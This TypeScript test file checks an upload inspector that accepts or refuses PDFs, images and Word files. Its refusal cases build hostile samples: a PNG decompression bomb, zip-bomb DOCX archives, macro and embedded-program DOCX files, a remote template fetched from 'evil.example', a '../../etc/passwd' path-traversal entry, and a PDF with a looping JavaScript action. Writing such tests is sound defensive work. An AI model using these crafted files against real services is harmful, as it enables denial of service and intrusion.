import { writeFile } from 'node:fs/promises';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { answersPdf } from '../../src/paper/answers.js';
import { inspect, inspectBytes } from '../../src/paper/inspect.js';
import * as papers from './papers.js';

const folder = await papers.uploadFolder();
const sent = async (bytes: Uint8Array) => inspect(await folder.put(bytes));
const refused = (problem: string) => ({ ok: false, problem });

/** A PNG that claims to be huge and holds almost nothing. */
function pngBomb(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const size = Buffer.alloc(4);
    size.writeUInt32BE(data.length);
    const sum = Buffer.alloc(4);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([size, body, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([1, 0, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(Buffer.alloc(1000))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

describe('what is taken', () => {
  test.each([
    ['a PDF of one page', async () => papers.tinyPdf(), { type: 'pdf', pages: 1 }],
    ['a PDF of 60 pages', async () => papers.tinyPdf(Array(60).fill('0 0 1')), { type: 'pdf', pages: 60 }],
    ['a PDF that only forbids printing', papers.printLockedPdf, { type: 'pdf', pages: 1 }],
    [
      'a PDF of ours',
      () => answersPdf({ title: 'T', subtitle: '', language: 'en', sections: [], footer: '' }),
      { type: 'pdf', pages: 1 },
    ],
    ['a JPEG', papers.photo, { type: 'jpeg', pages: 1 }],
    ['a PNG', () => papers.plain('#fff').png().toBuffer(), { type: 'png', pages: 1 }],
    ['a DOCX', async () => papers.docx(), { type: 'docx', pages: null }],
    [
      'a DOCX with a picture and a link',
      async () =>
        papers.docx([
          { name: 'word/media/image1.png', data: 'picture' },
          {
            name: 'word/_rels/document.xml.rels',
            data: '<Relationships><Relationship Id="r1" Type="http://x/relationships/hyperlink" Target="https://example.org" TargetMode="External"/></Relationships>',
          },
        ]),
      { type: 'docx', pages: null },
    ],
    [
      "a DOCX that remembers its author's own template",
      async () =>
        papers.docx([
          {
            name: 'word/_rels/settings.xml.rels',
            data: '<Relationships><Relationship Type="http://x/attachedTemplate" Target="file:///C:\\Users\\ana\\Normal.dotm" TargetMode="External"/></Relationships>',
          },
        ]),
      { type: 'docx', pages: null },
    ],
  ])('%s', async (_what, make, expected) => {
    expect(await sent(await make())).toEqual({ ok: true, ...expected });
  });
});

describe('what is refused', () => {
  test.each([
    ['an empty file', async () => Buffer.alloc(0), 'empty'],
    ['plain text', async () => Buffer.from('Dear Sir or Madam'), 'wrong_type'],
    ['a web page', async () => Buffer.from('<!doctype html><script>alert(1)</script>'), 'wrong_type'],
    ['a drawing in SVG', async () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'wrong_type'],
    ['a GIF', () => papers.plain('#fff').gif().toBuffer(), 'wrong_type'],
    ['a WebP', () => papers.plain('#fff').webp().toBuffer(), 'wrong_type'],
    ['a program', async () => Buffer.concat([Buffer.from('MZ\x90\x00'), Buffer.alloc(500, 1)]), 'wrong_type'],
    ['an old DOC', async () => Buffer.from(`d0cf11e0a1b11ae1${'00'.repeat(600)}`, 'hex'), 'wrong_type'],
    [
      'a DOCX locked with a password',
      async () =>
        Buffer.concat([
          Buffer.from(`d0cf11e0a1b11ae1${'00'.repeat(600)}`, 'hex'),
          Buffer.from('EncryptedPackage', 'utf16le'),
        ]),
      'encrypted',
    ],
    ['a PDF with a password', papers.lockedPdf, 'encrypted'],
    ['a PDF of 61 pages', async () => papers.tinyPdf(Array(61).fill('0 0 1')), 'too_large'],
    ['a PDF that was cut off', async () => papers.tinyPdf(['1 0 0', '0 1 0']).subarray(0, -60), 'broken'],
    ['nothing but the first line of a PDF', async () => Buffer.from('%PDF-1.7\n%%EOF'), 'broken'],
    ['a PDF without pages', async () => papers.tinyPdf([]), 'broken'],
    [
      'a PDF behind other content',
      async () => Buffer.concat([Buffer.from('<html>\n'), papers.tinyPdf()]),
      'wrong_type',
    ],
    [
      'a PDF behind a blank line',
      async () => Buffer.concat([Buffer.from('\n'), papers.tinyPdf()]),
      'wrong_type',
    ],
    ['a PDF that is also a ZIP', async () => Buffer.concat([papers.tinyPdf(), papers.docx()]), 'wrong_type'],
    [
      'a PDF that is also a ZIP and ends like a PDF',
      async () => Buffer.concat([papers.tinyPdf(), papers.docx(), Buffer.from('\n%%EOF\n')]),
      'wrong_type',
    ],
    [
      'a PDF with much behind its end',
      async () => Buffer.concat([papers.tinyPdf(), Buffer.alloc(2000, 'x')]),
      'broken',
    ],
    ['a JPEG cut in half', async () => (await papers.photo()).subarray(0, 1500), 'broken'],
    ['the first bytes of a JPEG', async () => (await papers.photo()).subarray(0, 30), 'broken'],
    [
      'a PNG cut in half',
      async () => (await papers.plain('#123').png().toBuffer()).subarray(0, 80),
      'broken',
    ],
    ['a PNG of 400 megapixels', async () => pngBomb(20_000, 20_000), 'bomb'],
    ['a ZIP of something else', async () => papers.zip([{ name: 'a.txt', data: 'x' }]), 'wrong_type'],
    ['an empty ZIP', async () => papers.zip([]), 'wrong_type'],
    [
      'a table (XLSX)',
      async () =>
        papers.zip([
          { name: '[Content_Types].xml', data: '<Types/>' },
          { name: 'xl/workbook.xml', data: 'x' },
        ]),
      'wrong_type',
    ],
    ['a DOCX cut in half', async () => papers.docx().subarray(0, 300), 'broken'],
    ['a DOCX with macros', async () => papers.docx([{ name: 'word/vbaProject.bin', data: 'x' }]), 'macros'],
    [
      'a DOCX with macros in a corner',
      async () => papers.docx([{ name: 'customXml/VBAPROJECT.BIN', data: 'x' }]),
      'macros',
    ],
    ['a renamed DOCM', async () => papers.docx([], 'ms-word.document.macroEnabled.main+xml'), 'macros'],
    [
      'a DOCX with a program inside',
      async () => papers.docx([{ name: 'word/media/photo.jpg.exe', data: 'MZ' }]),
      'macros',
    ],
    [
      'a DOCX with an archive inside',
      async () => papers.docx([{ name: 'word/media/all.ZIP', data: 'PK' }]),
      'macros',
    ],
    [
      'a DOCX with an embedded object',
      async () => papers.docx([{ name: 'word/embeddings/oleObject1.bin', data: 'x' }]),
      'macros',
    ],
    [
      'a DOCX that fetches its template from a server',
      async () =>
        papers.docx([
          {
            name: 'word/_rels/settings.xml.rels',
            data: '<Relationships><Relationship Target="https://evil.example/t.dotm" TargetMode="External" Type="http://x/attachedTemplate"/></Relationships>',
          },
        ]),
      'macros',
    ],
    [
      'a DOCX with a locked part',
      async () => papers.docx([{ name: 'word/a.xml', data: 'x', locked: true }]),
      'encrypted',
    ],
    [
      'a DOCX with a part outside itself',
      async () => papers.docx([{ name: '../../etc/passwd', data: 'x' }]),
      'broken',
    ],
    [
      'a DOCX that lies about a size',
      async () => papers.docx([{ name: 'word/a.xml', data: Buffer.alloc(9_000_000), claims: 10 }]),
      'broken',
    ],
    [
      'a DOCX that unpacks to 81 MB',
      async () => papers.docx([{ name: 'word/a.xml', data: Buffer.alloc(81 * 1024 * 1024) }]),
      'bomb',
    ],
    [
      'a DOCX of 1001 parts',
      async () => papers.docx(Array.from({ length: 998 }, (_, i) => ({ name: `word/${i}.xml`, data: '' }))),
      'bomb',
    ],
  ])('%s', async (_what, make, problem) => {
    expect(await sent(await make())).toEqual(refused(problem));
  });

  test('what has more than 10 MB, by one byte', async () => {
    const pdf = papers.tinyPdf();
    const whole = 10 * 1024 * 1024;
    const padded = (size: number) =>
      Buffer.concat([pdf.subarray(0, 9), Buffer.alloc(size - pdf.length, '\n'), pdf.subarray(9)]);

    expect(await sent(padded(whole))).toMatchObject({ ok: true, type: 'pdf' });
    expect(await sent(padded(whole + 1))).toEqual(refused('too_large'));
    expect(await inspectBytes(padded(whole + 1))).toEqual(refused('too_large'));
  });
});

test('a page drawn by a script-laden PDF is counted all the same, and the script does not run', async () => {
  const scripted = Buffer.from(
    papers
      .tinyPdf()
      .toString('latin1')
      .replace('/Type /Catalog', '/Type /Catalog /OpenAction << /S /JavaScript /JS (while(true){}) >>'),
    'latin1',
  );

  expect(await sent(scripted)).toEqual({ ok: true, type: 'pdf', pages: 1 });
});

test('a file that is not there is no problem of the sender', async () => {
  await expect(inspect('/nowhere/at/all')).rejects.toThrow('ENOENT');
});

test('looking changes nothing on the disk', async () => {
  const before = (await folder.left()).length;
  const path = await folder.put(
    await sharp(await papers.photo())
      .png()
      .toBuffer(),
  );
  await writeFile(path, 'no longer a picture');

  await inspect(path);

  expect((await folder.left()).length).toBe(before + 1);
});
